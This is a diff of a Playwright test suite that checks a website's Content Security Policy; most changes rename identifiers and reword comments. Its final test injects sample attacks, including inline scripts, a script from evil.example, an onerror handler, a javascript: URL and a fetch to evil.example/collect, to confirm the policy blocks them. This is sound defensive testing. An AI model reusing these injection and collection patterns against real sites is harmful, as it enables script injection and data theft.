@@ -1,11 +1,11 @@
 import type { Page } from '@playwright/test';
 import { CheckoutModel } from './models/checkout.model.ts';
-import { BoxOffice } from './models/held-basket.ts';
-import { wordsIn } from './models/words.ts';
+import { BasketApi } from './models/basket-api.ts';
+import { translatorFor } from './models/translator-for.ts';
 import { watchPolicy } from './support/policy-watch.ts';
-import { expect, takenOver, test } from './support/test.ts';
+import { expect, waitForHydration, test } from './support/test.ts';
 
-/** One of each kind, without the language. */
+/** One page of each kind, without the language. */
 const pages = [
   '',
   '/escape-games',
@@ -25,7 +25,7 @@ const pages = [
   '/gallery',
 ] as const;
 
-/** As a visitor who reads everything: what waits for its turn on the screen gets it. */
+/** Scrolls through the page, so that lazy content loads. */
 async function readThrough(page: Page): Promise<void> {
   await page.evaluate(async () => {
     const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
@@ -38,40 +38,40 @@ async function readThrough(page: Page): Promise<void> {
   });
 }
 
-/** Others are named in the policy; something that is theirs answers for them. */
-async function answerForOthers(page: Page): Promise<void> {
+/** Returns empty responses for the third parties that the policy allows. */
+async function respondForThirdParties(page: Page): Promise<void> {
   await page.route(/^https:/u, (route) => route.fulfill({ contentType: 'text/html', body: '<p>Somebody else</p>' }));
 }
 
 test.describe('the policy of the pages', () => {
   // Every page of the chain, in Arabic: pages-steady.
-  test('refuses nothing that the pages do by themselves', async ({ page }) => {
+  test('blocks nothing that the pages do by themselves', async ({ page }) => {
     test.setTimeout(90_000);
     const watch = await watchPolicy(page);
-    await answerForOthers(page);
+    await respondForThirdParties(page);
     for (const address of pages) {
-      const answer = await page.goto(`/en${address}`);
-      expect(answer?.headers()['content-security-policy'], address).toContain("script-src 'self' ");
+      const response = await page.goto(`/en${address}`);
+      expect(response?.headers()['content-security-policy'], address).toContain("script-src 'self' ");
       await readThrough(page);
     }
     expect(watch.take()).toEqual([]);
   });
 
   for (const locale of ['en', 'ar'] as const) {
-    test(`refuses nothing that a visitor asks for, ${locale}`, async ({ page, stack }) => {
+    test(`blocks nothing that a visitor requests, ${locale}`, async ({ page, stack }) => {
       test.setTimeout(90_000);
-      const t = wordsIn(locale);
+      const t = translatorFor(locale);
       const watch = await watchPolicy(page);
-      await answerForOthers(page);
+      await respondForThirdParties(page);
       // A film.
       await page.goto(`/${locale}/the-foyer`);
       const film = page.locator('[data-block="youtube-embed"]');
       await film.scrollIntoViewIfNeeded();
-      await takenOver(film.getByRole('link').first());
+      await waitForHydration(film.getByRole('link').first());
       await film.getByRole('link').first().click();
       await expect(page.frameLocator('[data-block="youtube-embed"] iframe').getByText('Somebody else')).toBeVisible();
 
-      // Maps: the own one with its worker, and those of others.
+      // Maps: the site's own one with its worker, and those of third parties.
       for (const [address, kind, name] of [
         ['/orlando/contact', 'google-maps', 'Google Maps'],
         ['/dubai', 'mapbox-map', 'Mapbox'],
@@ -80,16 +80,16 @@ test.describe('the policy of the pages', () => {
         const section = page.locator(`[data-block="${kind}"]`);
         await section.scrollIntoViewIfNeeded();
         await expect(section.locator('canvas')).toBeVisible();
-        const asked = page.waitForRequest(/^https:\/\/(?:maps\.googleapis|api\.mapbox)\.com\//u);
+        const requested = page.waitForRequest(/^https:\/\/(?:maps\.googleapis|api\.mapbox)\.com\//u);
         await section.getByRole('button', { name: t('Show the map of %name', { name }) }).click();
-        await asked;
+        await requested;
       }
       expect(watch.take()).toEqual([]);
 
-      const office = new BoxOffice(stack.apiOrigin);
-      await office.bring(page, await office.hold([{ game: 'midnight-archive' }]), locale);
+      const basketApi = new BasketApi(stack.apiOrigin);
+      await basketApi.openCheckout(page, await basketApi.hold([{ game: 'midnight-archive' }]), locale);
       const checkout = new CheckoutModel(page, t);
-      await checkout.enter();
+      await checkout.fillDetails();
       await checkout.confirm().click();
       await checkout.reference();
       await expect(page.getByRole('img', { name: t('QR code of your reference') })).toBeVisible();
@@ -97,22 +97,22 @@ test.describe('the policy of the pages', () => {
     });
   }
 
-  test('lets the page be drawn that says that the content system is away', async ({ page, stack }) => {
+  test('allows the error page of an unavailable content system', async ({ page, stack }) => {
     const watch = await watchPolicy(page);
     await stack.stopApi();
-    const answer = await page.goto('/en/toronto/careers');
-    expect(answer?.status()).toBe(503);
-    await expect(page.getByRole('link', { name: wordsIn('en')('Try again') })).toBeVisible();
+    const response = await page.goto('/en/toronto/careers');
+    expect(response?.status()).toBe(503);
+    await expect(page.getByRole('link', { name: translatorFor('en')('Try again') })).toBeVisible();
     expect(watch.take()).toEqual([]);
     await stack.startApi();
-    await page.getByRole('link', { name: wordsIn('en')('Try again') }).click();
-    await expect(page.getByRole('navigation', { name: wordsIn('en')('Breadcrumb') })).toBeVisible();
+    await page.getByRole('link', { name: translatorFor('en')('Try again') }).click();
+    await expect(page.getByRole('navigation', { name: translatorFor('en')('Breadcrumb') })).toBeVisible();
   });
 
-  test('goes with a visitor from page to page', async ({ page }) => {
+  test('is kept when a visitor goes from page to page', async ({ page }) => {
     const watch = await watchPolicy(page);
     await page.goto('/en');
-    // A mark that a new document would not have.
+    // A marker that a new document would not have.
     await page.evaluate(() => document.documentElement.setAttribute('data-first', ''));
     await page.locator('main a[href^="/en/"]').first().click();
     await expect(page).not.toHaveURL(/\/en$/u);
@@ -122,22 +122,22 @@ test.describe('the policy of the pages', () => {
     expect(watch.take()).toEqual([]);
   });
 
-  test('runs no script that came into a page, and none of a host that nobody named', async ({ page }) => {
+  test('blocks scripts that came into a page, and those of hosts that are not configured', async ({ page }) => {
     const fetched: string[] = [];
     await page.route('https://evil.example/**', (route) => {
       fetched.push(route.request().url());
       return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.hasRun = "a foreign script";' });
     });
     await page.route(/\/en\/orlando$/u, async (route) => {
-      const answer = await route.fetch();
-      const body = (await answer.text()).replace(
+      const response = await route.fetch();
+      const body = (await response.text()).replace(
         '</body>',
         `<script>globalThis.hasRun = 'an inline script';</script>
          <script src="https://evil.example/x.js"></script>
          <img src="/none.png" onerror="globalThis.hasRun = 'a handler'" alt="">
          <base href="https://evil.example/"></body>`,
       );
-      await route.fulfill({ response: answer, body });
+      await route.fulfill({ response, body });
     });
     const watch = await watchPolicy(page);
     await page.goto('/en/orlando');
@@ -146,7 +146,7 @@ test.describe('the policy of the pages', () => {
       script.textContent = 'globalThis.hasRun = "a script of a script";';
       document.body.append(script);
       const link = document.createElement('a');
-      link.href = 'javascript:globalThis.hasRun = "an address"';
+      link.href = 'javascript:globalThis.hasRun = "a URL"';
       document.body.append(link);
       link.click();
       const frame = document.createElement('iframe');
@@ -154,9 +154,9 @@ test.describe('the policy of the pages', () => {
       document.body.append(frame);
       return fetch('https://evil.example/collect').catch(() => undefined);
     });
-    let refused: readonly string[] = [];
+    let violations: readonly string[] = [];
     await expect(() => {
-      refused = [...refused, ...watch.take()];
+      violations = [...violations, ...watch.take()];
       for (const directive of [
         'script-src-elem inline',
         'script-src-elem https://evil.example/x.js',
@@ -165,12 +165,12 @@ test.describe('the policy of the pages', () => {
         'frame-src https://evil.example',
         'connect-src https://evil.example/collect',
       ])
-        expect(refused.join('\n')).toContain(`refused ${directive}`);
+        expect(violations.join('\n')).toContain(`blocked ${directive}`);
     }).toPass();
-    expect(refused.filter((line) => line.includes('script-src-elem inline')).length).toBeGreaterThanOrEqual(3);
+    expect(violations.filter((line) => line.includes('script-src-elem inline')).length).toBeGreaterThanOrEqual(3);
     expect(fetched).toEqual([]);
     expect(await page.evaluate(() => String(Reflect.get(globalThis, 'hasRun')))).toBe('undefined');
-    // The page's own scripts ran all the same.
+    // The page's own scripts still ran.
     await page.getByRole('banner').getByRole('button').first().click();
   });
 });
